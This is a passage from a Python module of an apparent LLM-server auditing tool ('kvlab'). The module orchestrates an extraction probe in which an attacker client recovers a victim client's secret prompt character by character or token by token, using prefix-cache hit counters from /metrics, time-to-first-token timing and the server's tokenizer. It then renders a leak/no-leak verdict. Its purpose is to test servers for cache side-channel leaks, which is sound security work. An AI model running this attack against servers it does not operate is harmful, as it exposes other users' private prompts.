    if run_strategy(run, tokenizer):  # token, dictionary or membership: they decide their own verdicts
        report.seconds = time.perf_counter() - t0
        return report
    if report.channel in COUNT_CHANNELS:
        run.run_cached()
    else:
        run.run_ttft()
    report.chance = chance_of(report.steps, report.correct_chars)
    report.verdict, report.reason = decide(report, cfg.alpha)
    if report.verdict == "no leak" and tokenizer is not None:
        from kvlab.probe.strategies.tokens import byte_level

        if not byte_level(tokenizer, cfg.alphabet, report.secret):
            report.verdict = "inconclusive"
            report.reason = (
                "no character guess hit, but the server's tokenizer is not byte-level: a character guess does not "
                "line up with the victim's tokens, so that proves nothing (--strategy token guesses tokens; not a "
                "proof of safety)"
            )
    report.seconds = time.perf_counter() - t0
    return report


def run_extract(
    base_url: str,
    model: str,
    cfg: ExtractConfig,
    *,
    api_key: str | None = None,
    victim_api_key: str | None = None,
    metrics_api_key: str | None = None,
    timeout: float = DEFAULT_TIMEOUT,
    progress: ProgressCallback | None = None,
) -> ExtractReport:
    """``extract`` against a server: the attacker and the victim each on their own pooled connection to
    ``base_url`` (with or without its ``/v1``, and nowhere else), with their own API keys. /metrics is read as
    the attacker can (no key, or its own), or with ``metrics_api_key`` for an operator auditing their own
    server. ``progress``: called as the phases (``metrics``: finding the hit counter, ``extraction``: the
    attack, a count of its steps) start, move and end (``kvlab.probe.progress``)."""
    phases = Phases(progress)
    with phases.phase("metrics"):
        check, reader = find_metrics(base_url, timeout, metrics_api_key, api_key)
    try:
        with (
            ProbeClient(base_url, model, timeout, api_key=api_key, max_connections=2) as a,
            ProbeClient(base_url, model, timeout, api_key=victim_api_key, max_connections=2) as v,
        ):
            count = None
            if find_tokenizer(a):

                def count(text: str) -> int | None:
                    ids = a.tokenize(text)
                    return None if ids is None else len(ids)

            counter = reader.hits if reader is not None else None
            attacker = HttpSender(a, cfg.attacker_salt)
            tokenizer = _tokenizer_access(a, cfg.tokenizer or model, cfg.tokenizer is not None)
            with phases.phase("extraction") as tick:
                report = extract(
                    attacker,
                    HttpSender(v, cfg.victim_salt),
                    cfg,
                    base_url=a.base_url,
                    model=model,
                    token_count=count,
                    counter=counter,
                    on_step=tick,
                    tokenizer=tokenizer,
                    ranker=attacker.top_tokens,
                )
    finally:
        if reader is not None:
            reader.close()
    check.own_hit = own_hit(report.calibration.get("counted", []))
    report.metrics = check.summary()
    return report


def _tokenizer_access(client: ProbeClient, name: str, asked: bool) -> TokenizerAccess:
    """The server's /tokenize (found by ``find_tokenizer``) and a local copy of ``name``'s tokenizer where kvlab
    can read one; a local copy the user asked for (``--tokenizer``) that cannot be read is an error."""
    from kvlab.probe.strategies.tokens import LocalTokenizer, ServerTokenizer, TokenizerAccess, load_local_tokenizer

    local: LocalTokenizer | None = None
    notes = []
    try:
        local = load_local_tokenizer(name)
    except ValueError as exc:
        if asked:
            raise ProbeError(f"--tokenizer: {exc}") from None
        notes.append(f"no local tokenizer for {name!r} ({exc})")
    server = ServerTokenizer(client) if client.tokenize_body is not None else None
    return TokenizerAccess(server, local, notes)


def render(report: ExtractReport) -> str:
    """The report as the few lines a terminal shows."""
    r = report
    secret = f"one of {r.candidates} candidates" if r.strategy in ("dictionary", "membership") else f"{r.alphabet!r}"
    lines = [
        f"extraction probe of {r.base_url} ({r.model}): channel {r.channel_label}",
        f"  strategy: {r.strategy}" + (f" ({r.strategy_reason})" if r.strategy_reason else ""),
        f"  secret: {len(r.secret)} characters of {secret} after a {r.prefix_chars}-character known prefix",
        f"  recovered: {r.recovered!r} ({r.correct_chars} correct of {len(r.secret)}: {r.secret!r})",
        f"  requests: {r.attacker_requests} attacker + {r.victim_requests} victim in {r.seconds:.1f}s"
        + (f"; {r.requests_to_recover} until the last correct character" if r.requests_to_recover else "")
        + (f"; {r.requests_per_token} per token" if r.requests_per_token else ""),
        f"  metrics: {r.metrics}",
    ]
    if r.tokenizer:
        lines.append(f"  tokenizer: {r.tokenizer} ({r.tokenizer_requests} tokenizer requests)")
    if r.prefix_visible is not None:
        lines.append(f"  the victim's known prefix is {'' if r.prefix_visible else 'not '}visible to the attacker")
    for s in r.steps:
        got = f" -> {s.guess!r} ({'right' if s.correct else 'WRONG'})" if s.guess is not None else ""
        count = f"{len(r.alphabet)}**{s.width}" if s.outcome == "unreachable" and r.strategy == "char" else ""
        count = count or str(s.candidates)
        lines.append(f"  step @{s.position} ({s.width} char, {s.tried}/{count} tried): {s.outcome}{got}")
        if s.detail:
            lines.append(f"    {s.detail}")
    for c in r.membership:
        sends = "/".join(map(str, c.sends)) or "-"
        lines.append(f"  round {c.round + 1} {c.label}: cached {sends}: {c.signal}")
    lines += [f"  note: {n}" for n in r.notes]
    lines.append(f"  verdict: {r.verdict.upper()}: {r.reason}")
    return "\n".join(lines)


def exit_code(report: ExtractReport) -> int:
    return 1 if report.verdict == "leak" else 0


__all__ = [
    "VERDICTS",
    "Candidate",
    "ExtractConfig",
    "ExtractReport",
    "HttpSender",
    "ProbeError",
    "Ranked",
    "Reply",
    "Sender",
    "Step",
    "extract",
    "infer_granularity",
    "render",
    "run_extract",
]
